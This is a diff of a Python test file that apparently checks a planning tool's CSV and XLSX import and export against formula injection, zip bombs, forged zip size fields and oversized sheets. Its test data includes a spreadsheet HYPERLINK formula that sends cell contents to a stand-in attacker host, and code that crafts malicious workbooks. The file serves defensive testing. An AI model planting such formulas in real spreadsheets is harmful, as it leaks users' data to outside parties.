@@ -30,8 +30,7 @@ from editing_support import copy_data
 
 WS2 = "workstreams/02-joint-commissioning.yaml"
 WS0 = "workstreams/00-partnership-board.yaml"
-FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+44 20 8547 5000", "-2+3", "@SUM(1,1)",
-            "\tTabbed text", "=1+1", "#N/A"]
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+44 20 8547 5000", "-2+3", "@SUM(1,1)", "\tTabbed text", "=1+1", "#N/A"]
 
 
 def snapshot(data: Path) -> dict[str, bytes]:
@@ -84,6 +83,7 @@ def test_csv_download_cells_start_with_an_apostrophe_before_a_formula(tmp_path):
     for text in FORMULAS:
         table.add(None, text, None)
     from decimal import Decimal
+
     table.add(None, "ordinary", Decimal("-19.25"))
     write_table(table, tmp_path)
     rows = list(csv.reader(io.StringIO((tmp_path / "data/test/t.csv").read_text(encoding="utf-8-sig"))))
@@ -173,8 +173,12 @@ ACTIVITIES_PART = "xl/worksheets/sheet1.xml"
 
 def test_a_huge_stated_dimension_is_not_trusted(project, capsys):
     assert run(capsys, "export", "xlsx", "plan.xlsx")[0] == 0
-    rewrite_part(project / "plan.xlsx", project / "huge.xlsx", ACTIVITIES_PART,
-                 lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', xml))
+    rewrite_part(
+        project / "plan.xlsx",
+        project / "huge.xlsx",
+        ACTIVITIES_PART,
+        lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', xml),
+    )
     assert (project / "huge.xlsx").stat().st_size < 40_000
     started = time.monotonic()
     assert run(capsys, "import", "huge.xlsx") == (0, ["No changes: huge.xlsx matches the data."], [])
@@ -187,8 +191,12 @@ def test_an_edit_below_a_too_small_stated_dimension_is_read(project, capsys):
     row = next(r for r in book["Activities"].iter_rows(min_row=2) if r[2].value == "ws2-03")
     row[5].value = "in_progress"
     book.save(project / "edited.xlsx")
-    rewrite_part(project / "edited.xlsx", project / "small.xlsx", ACTIVITIES_PART,
-                 lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:G2"/>', xml))
+    rewrite_part(
+        project / "edited.xlsx",
+        project / "small.xlsx",
+        ACTIVITIES_PART,
+        lambda xml: re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:G2"/>', xml),
+    )
     code, out, _ = run(capsys, "import", "small.xlsx")
     assert code == 0 and out[0] == "Activities row 24, activity ws2-03: status changes from Planned to In progress"
 
@@ -206,8 +214,11 @@ def test_a_zip_bomb_is_refused_before_anything_is_unpacked(project, capsys):
     rewrite_part(project / "plan.xlsx", project / "bomb.xlsx", ACTIVITIES_PART, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding, 1))
     assert (project / "bomb.xlsx").stat().st_size < 200_000
     code, _, err = run(capsys, "import", "bomb.xlsx")
-    assert code == 1 and re.fullmatch(r"bomb\.xlsx, row 1: its part xl/worksheets/sheet1\.xml is packed [0-9,]+ times over, which no "
-                                      r"spreadsheet program does \(at most 100\); refused as a possible zip bomb", err[0]), err
+    assert code == 1 and re.fullmatch(
+        r"bomb\.xlsx, row 1: its part xl/worksheets/sheet1\.xml is packed [0-9,]+ times over, which no "
+        r"spreadsheet program does \(at most 100\); refused as a possible zip bomb",
+        err[0],
+    ), err
 
 
 def test_a_part_larger_than_its_zip_directory_says_is_not_unpacked_past_that_size(project, capsys):
@@ -216,9 +227,9 @@ def test_a_part_larger_than_its_zip_directory_says_is_not_unpacked_past_that_siz
     rewrite_part(project / "plan.xlsx", project / "liar.xlsx", ACTIVITIES_PART, lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + padding, 1))
     data = bytearray((project / "liar.xlsx").read_bytes())
     entry = data.index(b"PK\x01\x02")  # the zip directory's first entry, then the sheet's
-    while not data[entry + 46:].startswith(ACTIVITIES_PART.encode()):
+    while not data[entry + 46 :].startswith(ACTIVITIES_PART.encode()):
         entry = data.index(b"PK\x01\x02", entry + 4)
-    data[entry + 24:entry + 28] = (50_000).to_bytes(4, "little")  # claims 50 KB unpacked
+    data[entry + 24 : entry + 28] = (50_000).to_bytes(4, "little")  # claims 50 KB unpacked
     (project / "liar.xlsx").write_bytes(bytes(data))
     started = time.monotonic()
     code, _, err = run(capsys, "import", "liar.xlsx")
@@ -232,11 +243,12 @@ def test_a_workbook_that_unpacks_too_large_is_refused(project, capsys):
     # Declared sizes are what a reader trusts; a central directory that claims 2 GB is refused unread.
     data = bytearray((project / "large.xlsx").read_bytes())
     directory = data.rindex(b"PK\x01\x02")
-    data[directory + 24:directory + 28] = (2 * 1024 ** 3).to_bytes(4, "little")
+    data[directory + 24 : directory + 28] = (2 * 1024**3).to_bytes(4, "little")
     (project / "large.xlsx").write_bytes(bytes(data))
     code, _, err = run(capsys, "import", "large.xlsx")
-    assert code == 1 and err[0] == ("large.xlsx, row 1: the workbook unpacks to 2,048 MB; clearplan import reads workbooks "
-                                    "that unpack to at most 100 MB")
+    assert code == 1 and err[0] == (
+        "large.xlsx, row 1: the workbook unpacks to 2,048 MB; clearplan import reads workbooks that unpack to at most 100 MB"
+    )
 
 
 def test_rows_after_the_row_limit_are_refused(project, capsys):
@@ -245,8 +257,10 @@ def test_rows_after_the_row_limit_are_refused(project, capsys):
     book["Activities"].cell(row=MAX_ROWS + 5, column=1, value="partnership-board")
     book.save(project / "long.xlsx")
     code, _, err = run(capsys, "import", "long.xlsx")
-    assert code == 1 and err[0] == (f"Activities, row {MAX_ROWS + 1}: the sheet has values after row {MAX_ROWS:,}; clearplan import "
-                                    f"reads at most {MAX_ROWS:,} rows a sheet (split the changes over several files)")
+    assert code == 1 and err[0] == (
+        f"Activities, row {MAX_ROWS + 1}: the sheet has values after row {MAX_ROWS:,}; clearplan import "
+        f"reads at most {MAX_ROWS:,} rows a sheet (split the changes over several files)"
+    )
 
 
 def test_only_the_first_problems_are_printed_then_how_many_more(project, capsys):
